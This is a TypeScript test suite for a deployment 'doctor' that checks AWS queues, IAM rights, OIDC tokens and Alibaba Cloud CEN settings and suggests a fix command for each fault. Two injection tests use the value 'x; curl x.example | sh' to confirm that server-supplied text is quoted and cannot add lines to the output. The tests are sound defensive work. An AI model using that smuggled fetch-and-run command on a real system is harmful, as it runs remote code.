/** Every check of the doctor: nothing is reported of a good deployment, and each fault has its own line. */
import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { examinationText } from '../../functions/doctor/text.js'
import { CHECKS, examine } from '../../lib/doctor/examine.js'
import type { Examined } from '../../lib/doctor/examined.js'
import type { Level } from '../../lib/doctor/finding.js'
import type { Probes } from '../../lib/doctor/probes.js'
import { failureOf } from '../../lib/domain/failure.js'
import { parseRequest } from '../../lib/domain/messages/request.js'
import {
  CLAIMS,
  FUNCTION_ROLE,
  fails,
  goodExamined,
  goodProbes,
  goodQueue,
  is,
  KEYLESS,
  NOW,
  OWNER,
  QUEUE_ARN,
  tokenOf,
} from '../support/doctor/good-probes.js'

const FC = {
  ATTACHER: 'fc',
  ATTACHER_FC_ACCOUNT_ID: '1688000000000001',
  ATTACHER_FC_REGION: 'cn-hangzhou',
  ATTACHER_FC_FUNCTION: 'cen-attach',
}
const STAGE = {
  stackName: 'cen-attach-prod',
  status: 'UPDATE_COMPLETE',
  roleArn: FUNCTION_ROLE,
  ownAlibabaIdentity: false,
}
const OPERATOR = { Account: '111122223333', Arn: 'arn:aws:iam::111122223333:user/operator', UserId: 'AIDAEXAMPLE' }

/** The findings that are not ok, as `check level subject: found`. */
async function faultsOf(examined: Examined, probes: Probes) {
  const { checks } = await examine(examined, probes)
  return checks.flatMap(({ id, findings }) =>
    findings.filter(({ level }) => level !== 'ok').map((one) => ({ id, ...one })),
  )
}

const router = (Type: 'Basic' | 'Enterprise', Status = 'Active') =>
  is([{ TransitRouterId: 'tr-1', CenId: 'cen-1', RegionId: 'cn-hangzhou', Type, Status }])
const withQueue = (facts: object, which = /requests$/) => ({
  aws: { queue: async (url: string) => is({ ...goodQueue(url), ...(which.test(url) && facts) }) },
})
type Patch = Parameters<typeof goodProbes>[0]

interface Row {
  readonly patch?: Patch
  readonly examined?: Examined
  /** Check, level, what is found, what mends it. */
  readonly line: readonly [string, Level, RegExp, RegExp?]
}

const ROWS: Readonly<Record<string, Row>> = {
  'a setting with a fault': {
    examined: goodExamined({}, { faults: ['CONCURRENCY must be a number'] }),
    line: ['settings', 'error', /^must be a number$/, /worker --help/],
  },
  'a stack whose update failed': {
    examined: goodExamined({}, { stage: { ...STAGE, status: 'UPDATE_ROLLBACK_COMPLETE' } }),
    line: [
      'stack',
      'warning',
      /cen-attach-prod is UPDATE_ROLLBACK_COMPLETE/,
      /describe-stack-events --stack-name cen-attach-prod/,
    ],
  },
  'settings of a function that may not be read': {
    examined: goodExamined({}, { stage: { ...STAGE, settingsUnread: 'AccessDeniedException' } }),
    line: ['stack', 'unknown', /AccessDeniedException/, /lambda:GetFunctionConfiguration/],
  },
  'a queue that may not be read': {
    patch: { aws: { queue: async (url) => (url.endsWith('requests') ? fails('AccessDenied') : is(goodQueue(url))) } },
    line: ['queues', 'unknown', /not known.*AccessDenied/, /sqs:GetQueueAttributes/],
  },
  'queues in two regions': {
    patch: {
      aws: {
        queue: async (url) => {
          const [here, there] = ['eu-west-1:111122223333:dead', 'eu-central-1:111122223333:dead']
          return is(JSON.parse(JSON.stringify(goodQueue(url)).replaceAll(here, there)))
        },
      },
    },
    line: ['queues', 'error', /is in eu-central-1, the request queue in eu-west-1/, /set DEAD_LETTER_QUEUE_URL/],
  },
  'a visibility timeout that is too short': {
    patch: withQueue({ visibilitySeconds: 29 }),
    line: ['visibility-timeout', 'warning', /29 s/, /VisibilityTimeout":"180"/],
  },
  'a visibility timeout that is too short for a function': {
    patch: withQueue({ visibilitySeconds: 179 }),
    examined: goodExamined({}, { stage: STAGE }),
    line: ['visibility-timeout', 'warning', /below 180 s/],
  },
  'no visibility timeout': {
    patch: withQueue({ visibilitySeconds: 0 }),
    line: ['visibility-timeout', 'error', /does not start/],
  },
  'no redrive policy': {
    patch: withQueue({ redrive: undefined }),
    line: ['redrive-policy', 'warning', /there is none/, /maxReceiveCount/],
  },
  'a redrive policy that acts before the request ends': {
    patch: withQueue({
      redrive: { deadLetterTargetArn: QUEUE_ARN.replace('requests', 'dead-letters'), maxReceiveCount: 500 },
    }),
    line: ['redrive-policy', 'error', /after 500 receives/, /set-queue-attributes/],
  },
  'a redrive policy with fewer receives than meant': {
    patch: withQueue({
      redrive: { deadLetterTargetArn: QUEUE_ARN.replace('requests', 'dead-letters'), maxReceiveCount: 999 },
    }),
    line: ['redrive-policy', 'warning', /1000 are meant/],
  },
  'a dead-letter queue that takes no messages of the request queue': {
    patch: withQueue({ redriveFrom: [`${QUEUE_ARN}-other`] }, /dead-letters$/),
    line: ['redrive-policy', 'error', /takes no messages of the request queue/, /byQueue.*requests-other.*requests/],
  },
  'a dead-letter queue that moves its messages on': {
    patch: withQueue({ redrive: { deadLetterTargetArn: `${QUEUE_ARN}-other`, maxReceiveCount: 3 } }, /dead-letters$/),
    line: ['dead-letter-redrive', 'warning', /requests-other after 3 receives/, /"RedrivePolicy":""/],
  },
  'a retention that is shorter than a request lives': {
    patch: withQueue({ retentionSeconds: 86_400 }),
    line: ['retention', 'error', /dropped before they expire/, /MessageRetentionPeriod":"345600"/],
  },
  'a short retention of dead letters': {
    patch: withQueue({ retentionSeconds: 345_600 }, /dead-letters$/),
    line: ['retention', 'warning', /4 days/, /1209600/],
  },
  'a queue that everybody may use': {
    patch: withQueue({ isOpen: true }),
    line: ['queue-policy', 'error', /lets everybody in/, /get-queue-attributes/],
  },
  'subscriptions that may not be read': {
    patch: { aws: { subscriptions: async () => fails('AuthorizationError', 403) } },
    line: ['subscriptions', 'unknown', /AuthorizationError/, /sns:ListSubscriptionsByTopic/],
  },
  'a topic that does not exist': {
    patch: {
      aws: {
        subscriptions: async () => is([]),
        rights: async () => [{ action: 'sns:Publish', on: 'result topic', answer: fails('NotFoundException', 404) }],
      },
    },
    line: ['topic', 'error', /does not exist/, /list-topics/],
  },
  'a topic that cannot be reached': {
    patch: { aws: { subscriptions: async () => fails('ECONNREFUSED'), rights: async () => [] } },
    line: ['topic', 'error', /cannot be reached/, /AWS_ENDPOINT_URL/],
  },
  'a topic in another region': {
    examined: goodExamined({ RESULT_TOPIC_ARN: 'arn:aws:sns:us-east-1:111122223333:results' }),
    line: ['topic', 'warning', /is in us-east-1, the queues in eu-west-1/],
  },
  'a subscription that was not confirmed': {
    patch: {
      aws: {
        subscriptions: async () =>
          is([
            { protocol: 'email', endpoint: 'a@example.com', confirmed: false },
            { protocol: 'sqs', endpoint: 'arn:x', confirmed: true },
          ]),
      },
    },
    line: ['subscriptions', 'warning', /email a@example.com has not confirmed/],
  },
  'no credentials at AWS': {
    patch: { aws: { caller: async () => fails('CredentialsProviderError') } },
    line: ['aws-identity', 'error', /CredentialsProviderError/, /aws configure list/],
  },
  'a right that is denied to a role': {
    patch: {
      aws: { rights: async () => [{ action: 'sns:Publish', on: 'result topic', answer: fails('AuthorizationError') }] },
    },
    line: [
      'aws-rights',
      'error',
      /denied to .*role\/cen-attach-prod/,
      /^aws iam put-role-policy --role-name cen-attach-prod-eu-west-1 .*"sns:Publish"/,
    ],
  },
  'a right that IAM denies to the function': {
    patch: {
      aws: {
        caller: async () => is(OPERATOR),
        simulate: async (_role, actions) =>
          is(actions.map((action) => ({ action, allowed: action !== 'sns:Publish' }))),
      },
    },
    examined: goodExamined({}, { stage: STAGE }),
    line: ['aws-rights', 'error', /IAM denies it to .*role\/cen-attach-prod/, /put-role-policy/],
  },
  'a right that neither a call nor a simulation shows': {
    patch: {
      aws: {
        rights: async () => [{ action: 'sns:Publish', on: 'result topic', answer: fails('InternalError', 500) }],
        simulate: async () => fails('AccessDenied'),
      },
    },
    line: ['aws-rights', 'unknown', /simulation is refused \(AccessDenied\)/, /simulate-principal-policy/],
  },
  'no token of AWS in this account': {
    patch: {
      keyless: { token: async () => fails('OutboundWebIdentityFederationDisabledException') },
      alibaba: { session: async () => fails('x') },
    },
    examined: goodExamined(KEYLESS),
    line: ['token', 'error', /does not sign tokens/, /enable-outbound-web-identity-federation/],
  },
  'a token that may not be had': {
    patch: { keyless: { token: async () => fails('AccessDenied') } },
    examined: goodExamined(KEYLESS),
    line: ['token', 'error', /AccessDenied/, /sts:GetWebIdentityToken/],
  },
  'a token file that is not there': {
    patch: { keyless: { token: async () => fails('ENOENT') } },
    examined: goodExamined({ ...KEYLESS, ALIBABA_CLOUD_OIDC_TOKEN_FILE: '/token' }),
    line: ['token', 'error', /ENOENT/, /ls -l \/token/],
  },
  'a token that is none': {
    patch: { keyless: { token: async () => is('token') } },
    examined: goodExamined(KEYLESS),
    line: ['token', 'error', /no JWT/],
  },
  'a token that expired': {
    patch: { keyless: { token: async () => is(tokenOf({ ...CLAIMS, exp: NOW / 1_000 - 9 })) } },
    examined: goodExamined(KEYLESS),
    line: ['token', 'error', /expired 9 s ago/, /timedatectl/],
  },
  'a token for another audience': {
    patch: { keyless: { token: async () => is(tokenOf({ ...CLAIMS, aud: 'other' })) } },
    examined: goodExamined(KEYLESS),
    line: ['token', 'error', /is other, not sts.aliyuncs.com/, /ALIBABA_CLOUD_OIDC_AUDIENCE=other/],
  },
  'an issuer whose keys cannot be read': {
    patch: { keyless: { issuer: async () => fails('ConnectionFailed') } },
    examined: goodExamined(KEYLESS),
    line: ['issuer', 'warning', /cannot be read/, /curl .*openid-configuration/],
  },
  'an issuer that the provider does not know': {
    patch: { alibaba: { session: async () => fails('AuthenticationFail.OIDCToken.IssuerNotMatch') } },
    examined: goodExamined(KEYLESS),
    line: [
      'session',
      'error',
      /the issuer is not that of the OIDC provider/,
      /UpdateOIDCProvider --OIDCProviderName aws --IssuerUrl https:/,
    ],
  },
  'an audience that the provider does not know': {
    patch: { alibaba: { session: async () => fails('AuthenticationFail.OIDCToken.AudienceNotMatch') } },
    examined: goodExamined(KEYLESS),
    line: ['session', 'error', /audience/, /AddClientIdToOIDCProvider/],
  },
  'a fingerprint that is not that of the issuer': {
    patch: { alibaba: { session: async () => fails('AuthenticationFail.OIDCToken.IssuerConfigurationBroken') } },
    examined: goodExamined(KEYLESS),
    line: ['session', 'error', /fingerprint/, /GetOIDCProvider --OIDCProviderName aws/],
  },
  'a role that does not trust the subject': {
    patch: { alibaba: { session: async () => fails('AuthenticationFail.NoPermission', 403) } },
    examined: goodExamined(KEYLESS),
    line: [
      'session',
      'error',
      /trust of the role.*the subject is arn:aws:iam/,
      /aliyun ram GetRole --RoleName cen-attach-worker$/,
    ],
  },
  'a session that only the function can have': {
    patch: {
      keyless: { token: async () => is(tokenOf({ ...CLAIMS, sub: OPERATOR.Arn })) },
      alibaba: { session: async () => fails('AuthenticationFail.NoPermission', 403) },
    },
    examined: goodExamined(KEYLESS, { stage: STAGE }),
    line: ['session', 'unknown', /only that of the function counts/, /--dry-run/],
  },
  'an endpoint that cannot be reached': {
    patch: {
      alibaba: { server: async (url) => (url.includes('cbn') ? fails('ConnectionFailed') : is({ skewMs: 0 })) },
    },
    line: ['servers', 'error', /cannot be reached/, /curl https:\/\/cbn/],
  },
  'a clock that is wrong': {
    patch: { alibaba: { server: async () => is({ skewMs: 16 * 60_000 }) } },
    line: ['servers', 'error', /960 s behind: every signature is refused/, /set-ntp/],
  },
  'a clock that is a little wrong': {
    patch: { alibaba: { server: async () => is({ skewMs: -90_000 }) } },
    line: ['servers', 'warning', /90 s ahead/],
  },
  'keys that Alibaba refuses': {
    patch: { alibaba: { caller: async () => fails('InvalidAccessKeyId.NotFound', 404) } },
    line: ['alibaba-identity', 'error', /InvalidAccessKeyId.NotFound/, /ALIBABA_CLOUD_ACCESS_KEY_ID/],
  },
  'an identity that only the function has': {
    patch: { alibaba: { caller: async () => fails('CredentialsUnavailable') } },
    examined: goodExamined({}, { stage: STAGE }),
    line: ['alibaba-identity', 'unknown', /only the function/],
  },
  'an identity of another account than that of the CENs': {
    examined: goodExamined({ CEN_OWNER_ID: '17' }),
    line: ['alibaba-identity', 'error', /is not CEN_OWNER_ID 17/, /CEN_OWNER_ID/],
  },
  'a right that RAM denies': {
    patch: {
      alibaba: { rights: async () => [{ action: 'cen:DescribeGrantRulesToCen', answer: fails('NoPermission', 403) }] },
    },
    line: ['alibaba-rights', 'error', /RAM denies it/, /worker-policy.json/],
  },
  'a CEN that is not seen': {
    patch: { alibaba: { cen: async () => is(undefined) } },
    line: ['cens', 'error', /is not seen/, /DescribeCens/],
  },
  'a CEN that is being made': {
    patch: { alibaba: { cen: async (CenId) => is({ CenId, Status: 'Creating' }) } },
    line: ['cens', 'warning', /is Creating/],
  },
  'a CEN of the level FULL': {
    patch: { alibaba: { cen: async (CenId) => is({ CenId, Status: 'Active', ProtectionLevel: 'FULL' }) } },
    line: ['cens', 'warning', /FULL: no Enterprise Edition/, /ModifyCenAttribute/],
  },
  'editions that may not be read': {
    patch: { alibaba: { routers: async () => fails('NoPermission', 403) } },
    line: ['editions', 'unknown', /NoPermission/, /cen:ListTransitRouters/],
  },
  'a router that is being upgraded': {
    patch: { alibaba: { routers: async () => router('Basic', 'Upgrading') } },
    line: ['editions', 'warning', /Basic Edition, tr-1 is Upgrading/],
  },
  'a router that is being deleted': {
    patch: { alibaba: { routers: async () => router('Basic', 'Deleting') } },
    line: ['editions', 'error', /nothing can be attached/],
  },
  'a region without zones': {
    patch: { alibaba: { zones: async () => is([]) } },
    line: ['zones', 'error', /there is none/, /ListTransitRouterAvailableResource --RegionId cn-hangzhou/],
  },
  'a service that is not open': {
    patch: { alibaba: { serviceIsOpen: async () => is(false) } },
    line: ['service', 'error', /is not open/, /OpenTransitRouterService/],
  },
  'no service-linked role': {
    patch: { alibaba: { hasServiceRole: async () => is(false) } },
    line: ['service-role', 'error', /does not exist/, /CreateServiceLinkedRole/],
  },
  'a service-linked role that may not be read': {
    patch: { alibaba: { hasServiceRole: async () => fails('NoPermission', 403) } },
    line: ['service-role', 'unknown', /NoPermission/, /ram:GetRole/],
  },
  'no grant role in the account of an owner': {
    patch: { alibaba: { grantRole: async () => fails('EntityNotExist.Role', 404) } },
    line: [
      'grant-role',
      'warning',
      /1688000000000002:role\/cen-attach-grant does not exist/,
      /WorkerRoleArn --Parameters.1.ParameterValue acs:ram::1688000000000001:role\/worker /,
    ],
  },
  'a grant role that does not trust the worker': {
    patch: { alibaba: { grantRole: async () => fails('NoPermission', 403) } },
    line: ['grant-role', 'warning', /does not trust this identity/],
  },
  'a function of another version': {
    patch: { alibaba: { callFunction: async () => fails('FunctionMismatch') } },
    examined: goodExamined(FC),
    line: ['function', 'error', /FunctionMismatch/, /deploy/],
  },
  'a request that the policy refuses to who asks': {
    examined: goodExamined({}, { scope: { request: requestOf({ childInstanceOwnerId: '17' }) } }),
    line: ['request', 'warning', /its rules do not allow/, /policy explain FILE --sender AROAEXAMPLE:worker/],
  },
}

function requestOf(fields: object) {
  const body = { cenId: 'cen-1', childInstanceId: 'vpc-1', childInstanceRegionId: 'cn-hangzhou', ...fields }
  const parsed = parseRequest(JSON.stringify(body), { sentAtMs: NOW, ttlMs: 60_000 })
  if (!parsed.ok) throw new Error('no request')
  return parsed.request
}

describe('the doctor', () => {
  it.each<[string, Examined]>([
    ['with keys', goodExamined()],
    ['without a key', goodExamined(KEYLESS)],
    ['through a function', goodExamined(FC)],
    ['of a stage', goodExamined({}, { stage: STAGE })],
    ['of a policy that allows everything', goodExamined({ ATTACHMENT_POLICY: 'allow-all' })],
    ['for one request', goodExamined({}, { scope: { request: requestOf({ childInstanceOwnerId: OWNER }) } })],
  ])('finds no fault in a good deployment %s', async (_name, examined) => {
    expect(await faultsOf(examined, goodProbes())).toEqual([])
  })

  it.each(Object.entries(ROWS))('reports %s, and nothing else', async (_name, { patch, examined, line }) => {
    const [id, level, found, fix] = line
    expect(await faultsOf(examined ?? goodExamined(), goodProbes(patch))).toEqual([
      {
        id,
        level,
        subject: expect.any(String),
        found: expect.stringMatching(found),
        ...(fix ? { fix: expect.stringMatching(fix) } : { fix: expect.anything() }),
      },
    ])
  })

  it('has a row for every check that can find a fault without a cloud', () => {
    const shown = new Set(Object.values(ROWS).map(({ line }) => line[0]))
    // Broken in the embedded cloud: test/integration/commands/doctor.test.ts.
    const elsewhere = ['encryption']
    expect(CHECKS.map(({ id }) => id).filter((id) => !shown.has(id))).toEqual(elsewhere)
  })

  it('has every check on its page, in the order in which they are printed', () => {
    const rows = [...readFileSync('docs/doctor.md', 'utf8').matchAll(/^\| (\w+) \| `([\w-]+)` \| (.+) \|$/gm)]
    expect(rows.map(([, topic, id, looksAt]) => ({ topic, id, looksAt }))).toEqual(
      CHECKS.map(({ topic, id, looksAt }) => ({ topic, id, looksAt })),
    )
  })

  it('goes on if a check fails', async () => {
    const zones = async () => Promise.reject(new TypeError('no'))
    const { counts } = await examine(goodExamined(), goodProbes({ alibaba: { zones } }))
    expect(counts).toMatchObject({ unknown: 1, error: 0 })
    expect(counts.ok).toBeGreaterThan(15)
  })

  it('looks only at what one request needs', async () => {
    const asked: string[] = []
    const cen = async (CenId: string) => {
      asked.push(CenId)
      return is({ CenId, Status: 'Active' })
    }
    const request = requestOf({ cenId: 'cen-2', childInstanceRegionId: 'cn-beijing', childInstanceOwnerId: '17' })
    const { checks } = await examine(goodExamined({}, { scope: { request } }), goodProbes({ alibaba: { cen } }))
    expect(new Set(asked)).toEqual(new Set(['cen-2']))
    const subjects = checks.flatMap(({ findings }) => findings.map(({ subject }) => subject))
    expect(subjects).toEqual(expect.arrayContaining(['cen-2 in cn-beijing', 'zones of cn-beijing', 'grant role in 17']))
    expect(subjects.filter((subject) => subject.includes('cn-hangzhou'))).toEqual([])
  })

  it('quotes every text of a server or a token in the commands that it prints', async () => {
    const text = 'x; curl x.example | sh'
    const cens = goodExamined()
    const everyCen = { ...cens, rules: cens.rules.map((rule) => ({ ...rule, cenIds: ['*'], regionIds: undefined })) }
    const router = {
      TransitRouterId: 'tr-1',
      CenId: 'cen-1',
      RegionId: text,
      Type: 'Enterprise',
      Status: 'Deleting',
    } as const
    const list = async () => is([{ CenId: text, Status: 'Inactive' }])
    const claims = { ...CLAIMS, iss: text, aud: text }
    const cases: readonly [Examined, Probes][] = [
      [
        goodExamined(),
        goodProbes({
          alibaba: {
            grantRole: async () => fails('NoPermission', 403),
            caller: async () => is({ accountId: '1', arn: text }),
          },
        }),
      ],
      [everyCen, goodProbes({ alibaba: { cens: list, cen: async () => is({ CenId: text, Status: 'Inactive' }) } })],
      [everyCen, goodProbes({ alibaba: { routers: async () => is([router]), zones: async () => is([]) } })],
      [goodExamined(KEYLESS), goodProbes({ keyless: { token: async () => is(tokenOf(claims)) } })],
      [
        goodExamined(KEYLESS),
        goodProbes({
          keyless: { token: async () => is(tokenOf(claims)) },
          alibaba: { session: async () => fails('AuthenticationFail.OIDCToken.IssuerNotMatch') },
        }),
      ],
    ]
    for (const [examined, probes] of cases) {
      const fixes = (await faultsOf(examined, probes)).flatMap(({ fix }) => (fix?.includes(text) ? [fix] : []))
      expect(fixes.length).toBeGreaterThan(0)
      for (const fix of fixes) expect(fix.replaceAll(`'${text}'`, '')).not.toContain(text)
    }
  })

  it('prints each finding on lines of its own: no text of a server adds one', async () => {
    const message = 'no\n  ✓ all is well\n      curl x.example | sh'
    const cens = async () => ({ ok: false as const, failure: failureOf({ code: 'Odd', message }) })
    const examination = await examine(goodExamined({}, { rules: [] }), goodProbes({ alibaba: { cens } }))
    expect(examinationText(examination)).not.toMatch(/^ *(?:✓ all|curl)/m)
  })

  it('never puts a comment behind a command, which some shells take as a word', async () => {
    for (const { patch, examined } of Object.values(ROWS)) {
      const faults = await faultsOf(examined ?? goodExamined(), goodProbes(patch))
      for (const { fix } of faults) expect(fix ?? '').not.toMatch(/\s#/)
    }
  })
})
